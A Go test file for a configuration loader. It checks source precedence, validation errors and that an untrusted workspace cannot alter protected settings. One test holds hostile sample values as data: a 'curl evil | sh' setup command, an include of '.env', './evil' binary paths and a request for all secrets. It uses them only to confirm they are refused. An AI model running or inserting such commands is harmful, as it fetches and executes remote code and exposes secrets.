package config

import (
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

func home(t *testing.T, yaml string) string {
	t.Helper()
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "config.yaml"), []byte(yaml), 0o600); err != nil {
		t.Fatal(err)
	}
	return dir
}

func TestTheStrongestSourceWins(t *testing.T) {
	dir := home(t, "runtime: modal\nmodal:\n  app_name: file\n  image: file-image\n  sandbox_timeout_seconds: 600\n")
	src := Sources{
		Home:    dir,
		Environ: []string{"MODAL_APP=env", "MODAL_IMAGE=env-image", "MODAL_DELETE_ON_CLOSE=false", "MODAL_SANDBOX_TIMEOUT="},
		User:    map[string]any{"modal": map[string]any{"image": "editor-image"}},
	}
	got, warnings, err := Load(src)
	if err != nil {
		t.Fatal(err)
	}
	if len(warnings) > 0 {
		t.Errorf("warnings: %q", warnings)
	}
	want := Modal{
		CLI: "modal", AppName: "env", Image: "editor-image", SandboxTimeoutSeconds: 600, DeleteOnClose: false,
		Network: "on", Transport: "auto", Secrets: []string{}, Volumes: []string{}, Env: map[string]string{},
	}
	if diff := cmp.Diff(want, got.Modal); diff != "" {
		t.Errorf("modal (-want +got):\n%s", diff)
	}
	if got.Runtime != "modal" || got.ReturnMode != "edits" || got.ReturnMaxMB != 50 {
		t.Errorf("got %+v", got)
	}
	values, err := Explain(src)
	if err != nil {
		t.Fatal(err)
	}
	origins := map[string]string{}
	for _, v := range values {
		origins[v.Key] = v.Origin
	}
	for key, want := range map[string]string{
		"runtime": FromFile, "modal.app_name": FromEnvironment, "modal.image": FromEditor, "return.mode": FromDefault,
	} {
		if origins[key] != want {
			t.Errorf("%s comes from %s, want %s", key, origins[key], want)
		}
	}
}

func TestX1_AWorkspaceCannotRunProgramsOrSendData(t *testing.T) {
	hostile := map[string]any{
		"runtime": "modal",
		"setup":   []any{"curl evil | sh"},
		"include": []any{".env"},
		"runners": []any{map[string]any{"language": "go", "run": "evil"}},
		"modal":   map[string]any{"python_path": "./evil", "modal_cli": "./evil", "secrets": []any{"all"}},
		"local":   map[string]any{"isolation": "none", "network": "on"},
		"return":  map[string]any{"mode": "disk"},
		"history": "full",
		"exclude": []any{"*.bin"},
	}
	got, warnings, err := Load(Sources{Workspace: hostile, Trusted: true})
	if err != nil {
		t.Fatal(err)
	}
	want, _, err := Load(Sources{})
	if err != nil {
		t.Fatal(err)
	}
	want.Exclude = []string{"*.bin"}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("a workspace changed what it may not (-want +got):\n%s", diff)
	}
	for _, key := range []string{"runtime", "setup", "include", "runners", "modal.python_path", "local.isolation", "return.mode", "history"} {
		if !strings.Contains(strings.Join(warnings, "\n"), key+" from the workspace does not count") {
			t.Errorf("no warning names %s: %q", key, warnings)
		}
	}
}

// They choose programs, spend money, or say where the tree goes.
func TestX1_EverySettingOfModalIsThePersonsAlone(t *testing.T) {
	seen := 0
	for _, row := range Table() {
		if strings.HasPrefix(row.Key, "modal.") {
			seen++
			if !row.UserOnly {
				t.Errorf("a workspace can set %s", row.Key)
			}
		}
	}
	if seen < 15 {
		t.Errorf("only %d settings of modal were looked at", seen)
	}
}

func TestX1_AnUntrustedWorkspaceChangesNothing(t *testing.T) {
	got, warnings, err := Load(Sources{Workspace: map[string]any{"exclude": []any{"*"}}})
	if err != nil {
		t.Fatal(err)
	}
	if len(got.Exclude) != 0 || len(warnings) != 1 {
		t.Errorf("exclude %q, warnings %q", got.Exclude, warnings)
	}
}

func TestAnUnknownKeyIsAWarningWithTheNearestName(t *testing.T) {
	_, warnings, err := Load(Sources{Home: home(t, "modal:\n  sandbox_timeout: 5\nllm:\n  provider: x\n")})
	if err != nil {
		t.Fatal(err)
	}
	want := []string{
		`unknown setting "llm.provider" (file)`,
		`unknown setting "modal.sandbox_timeout" (file); did you mean "modal.sandbox_timeout_seconds"?`,
	}
	if diff := cmp.Diff(want, warnings); diff != "" {
		t.Error(diff)
	}
}

func TestAWrongValueIsAnErrorThatNamesSettingOriginAndWhatIsAllowed(t *testing.T) {
	for _, tc := range []struct {
		name string
		src  Sources
		want string
	}{
		{"enum", Sources{Environ: []string{"GLUE_RUNTIME=docker"}}, `setting runtime (environment): want one of local, modal, got "docker"`},
		{"range", Sources{Environ: []string{"MODAL_SANDBOX_TIMEOUT=0"}}, `setting modal.sandbox_timeout_seconds (environment): want 1 to 86400, got 0`},
		{"type", Sources{User: map[string]any{"setup": "make"}}, `setting setup (editor): want an array of strings, got "make"`},
		{"whole", Sources{User: map[string]any{"return": map[string]any{"max_mb": 1.5}}}, `setting return.max_mb (editor): want a whole number, got 1.5`},
		{"text is not converted from an editor", Sources{User: map[string]any{"bundle_max_mb": "3"}}, `setting bundle_max_mb (editor): want a number, got "3"`},
		{"history", Sources{User: map[string]any{"history": "deep"}}, `setting history (editor): want none, full or shallow:N, got "deep"`},
		{"runner", Sources{User: map[string]any{"runners": []any{map[string]any{"run": "x"}}}}, `setting runners (editor): runner 1: needs language or files`},
	} {
		t.Run(tc.name, func(t *testing.T) {
			_, _, err := Load(tc.src)
			var e *Error
			if !errors.As(err, &e) {
				t.Fatalf("got %v, want an *Error", err)
			}
			if e.Error() != tc.want {
				t.Errorf("got  %s\nwant %s", e, tc.want)
			}
		})
	}
}

func TestADamagedFileIsNamed(t *testing.T) {
	_, _, err := Load(Sources{Home: home(t, "runtime: [")})
	if err == nil || !strings.Contains(err.Error(), "config.yaml") {
		t.Errorf("got %v", err)
	}
}

func TestEveryRowOfTheTableIsWholeAndItsDefaultIsAllowed(t *testing.T) {
	seen := map[string]bool{}
	for _, row := range Table() {
		if row.Help == "" || row.set == nil || seen[row.Key] {
			t.Errorf("%s is incomplete or there twice", row.Key)
		}
		seen[row.Key] = true
		row.set(&Settings{}, row.Default) // panics on a default of the wrong type
		switch row.Type {
		case String, Integer, Number, Boolean:
			if _, err := row.parse(row.Default, false); err != nil {
				t.Errorf("%s: its own default is refused: %v", row.Key, err)
			}
		}
		if !strings.Contains(Reference(), "`"+row.Key+"`") {
			t.Errorf("%s is not on the reference page", row.Key)
		}
	}
}
